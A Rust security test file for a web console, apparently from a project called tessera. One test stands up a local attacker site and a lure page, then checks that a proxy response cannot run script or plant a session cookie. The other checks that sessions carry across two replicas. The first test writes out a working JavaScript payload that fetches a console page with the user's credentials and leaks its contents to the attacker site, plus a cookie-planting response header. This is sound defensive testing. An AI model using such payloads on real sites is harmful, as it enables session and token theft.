//! What a hostile page can make a signed-in browser do: a page on another site sends the
//! console's user to a proxy whose transform answers with a script and a planted session
//! cookie; the script runs nowhere that can read the console, and the cookie is never set.
//! And two replicas over one database serve one browser in turn, with no affinity.

use std::{
    io::{BufRead, BufReader, Write},
    net::TcpListener,
    sync::{Arc, Mutex},
    time::{Duration, Instant},
};

use serde_json::json;
use tessera_testkit::{backend_tests, db::TestDatabase};

use super::{browse_with_card, flows::sign_in, Served};

backend_tests!(
    a_proxy_answer_cannot_read_the_console_or_plant_a_session,
    two_replicas_serve_one_browser_in_turn,
);

/// The attacker's site: serves `page` at `/` and records the path of every request it gets
/// (what a script exfiltrates to it).
pub(super) struct Site {
    pub(super) base: String,
    seen: Arc<Mutex<Vec<String>>>,
}

impl Site {
    pub(super) fn start(page: String) -> Self {
        Self::start_on(TcpListener::bind("127.0.0.1:0").expect("bind"), page)
    }

    /// [`Site::start`] on a socket already bound (its origin was needed first).
    pub(super) fn start_on(listener: TcpListener, page: String) -> Self {
        let base = format!("http://{}", listener.local_addr().expect("addr"));
        let seen = Arc::new(Mutex::new(Vec::new()));
        let record = seen.clone();
        std::thread::spawn(move || {
            for stream in listener.incoming().flatten() {
                let mut reader = BufReader::new(stream);
                let mut line = String::new();
                if reader.read_line(&mut line).is_err() {
                    continue;
                }
                let path = line.split_whitespace().nth(1).unwrap_or("").to_string();
                let mut header = String::new();
                while reader.read_line(&mut header).is_ok_and(|n| n > 2) {
                    header.clear();
                }
                let body = if path == "/" { page.as_str() } else { "" };
                let answer = format!(
                    "HTTP/1.1 200 OK\r\ncontent-type: text/html\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{body}",
                    body.len()
                );
                let _ = reader.get_mut().write_all(answer.as_bytes());
                record.lock().expect("lock").push(path);
            }
        });
        Self { base, seen }
    }

    pub(super) fn seen(&self) -> Vec<String> {
        self.seen.lock().expect("lock").clone()
    }
}

async fn a_proxy_answer_cannot_read_the_console_or_plant_a_session(db: &TestDatabase) {
    let Some((b, _card)) = browse_with_card(db).await else {
        return;
    };
    let (s, tab) = (&b.s, &b.tab);
    let console = tab.base().to_string();
    let site = Site::start(String::new());
    // If it ran, the script would report itself, then try to read a console page (the CSRF
    // token of the new-application form) and send what it read to the attacker's site.
    let script = format!(
        "new Image().src = '{site}/ran';\
         fetch('{console}/console/applications/new', {{credentials: 'include'}})\
           .then(r => r.text())\
           .then(t => {{ new Image().src = '{site}/leak?' + encodeURIComponent(t.slice(0, 500)); }})\
           .catch(e => {{ new Image().src = '{site}/refused'; }});",
        site = site.base
    );
    let code =
        format!(
        "module.exports = async function () {{ throw new CustomHttpResponseError({{status: 200, \
         headers: {{'content-type': 'text/html', \
         'set-cookie': 'tessera_console=planted; Path=/console/tokens/new', \
         'service-worker-allowed': '/'}}, \
         body: {} }}); }};",
        serde_json::to_string(&format!("<html><body>hi<script>{script}</script></body></html>"))
            .expect("json")
    );
    let (_, key) = s
        .proxy(
            json!({"name": "trap", "destination_url": s.harness.upstream_url(),
                      "require_auth": false, "request_transform": {"code": code}}),
        )
        .await;
    let trap = format!("{}/proxy?svc-proxy-key={key}", s.harness.base);
    // The attacker's page sends the signed-in user to the proxy.
    let lure = Site::start(format!(
        "<html><body><script>location = {};</script></body></html>",
        serde_json::to_string(&trap).expect("json")
    ));
    tab.page
        .goto(format!("{}/", lure.base))
        .await
        .expect("lure");
    let deadline = Instant::now() + Duration::from_secs(10);
    while tab.page.url().await.ok().flatten().unwrap_or_default() != trap {
        assert!(
            Instant::now() < deadline,
            "the lure did not lead to the proxy"
        );
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    // Time for a script to run, fetch and report.
    tokio::time::sleep(Duration::from_secs(2)).await;
    assert_eq!(
        site.seen(),
        Vec::<String>::new(),
        "no script ran in the answer"
    );
    // Back on the console: still the user's own session, and no second cookie planted.
    tab.go("/console/tokens/new").await;
    assert_eq!(tab.path().await, "/console/tokens/new", "still signed in");
    let cookies = tab.page.get_cookies().await.expect("cookies");
    let sessions: Vec<_> = cookies
        .iter()
        .filter(|c| c.name.eq_ignore_ascii_case("tessera_console"))
        .collect();
    assert_eq!(sessions.len(), 1, "{sessions:?}");
    assert_ne!(sessions[0].value, "planted");
    b.close().await;
}

async fn two_replicas_serve_one_browser_in_turn(db: &TestDatabase) {
    let Some((b, card)) = browse_with_card(db).await else {
        return;
    };
    let (s, tab) = (&b.s, &b.tab);
    // A second `api` process: its own vault and console over the same database.
    let other = s.replica(db);
    let served = Served::start(&other);
    let (first, second) = (tab.base().to_string(), served.base.clone());
    // Signed in on the first replica (browse_with_card), the token page on the second.
    tab.go_to(&format!("{second}/console/tokens/{card}")).await;
    assert!(
        tab.page
            .url()
            .await
            .ok()
            .flatten()
            .unwrap_or_default()
            .ends_with(&card),
        "the second replica knows the session"
    );
    // A form of the second replica, posted, then read back on the first.
    tab.go_to(&format!("{second}/console/tokens/new")).await;
    tab.set("#f-type", "token").await;
    tab.eval("document.querySelector('#f-type').dispatchEvent(new Event('change'))")
        .await;
    tab.type_into("#f-data", "made on the second replica").await;
    tab.click("main form.stack button[type=submit]").await;
    let made = tab.page.url().await.ok().flatten().unwrap_or_default();
    assert!(
        made.starts_with(&format!("{second}/console/tokens/")),
        "{made}"
    );
    let id = made
        .rsplit('/')
        .next()
        .unwrap_or_default()
        .split('?')
        .next()
        .unwrap_or_default()
        .to_string();
    tab.go_to(&format!("{first}/console/tokens/{id}")).await;
    assert!(
        tab.text().await.contains(&id),
        "the first replica serves it"
    );
    // Signed out on the second: the first no longer serves the session.
    tab.go_to(&format!("{second}/console/tokens")).await;
    tab.click("form.signout button[type=submit]").await;
    tab.go_to(&format!("{first}/console/tokens")).await;
    let url = tab.page.url().await.ok().flatten().unwrap_or_default();
    assert!(
        url.starts_with(&format!("{first}/console")) && !url.contains("/tokens"),
        "{url}"
    );
    sign_in(tab, &s.admin_key).await;
    assert_eq!(
        tab.path().await,
        "/console/tokens",
        "and signing in again works"
    );
    drop(served);
    b.close().await;
}
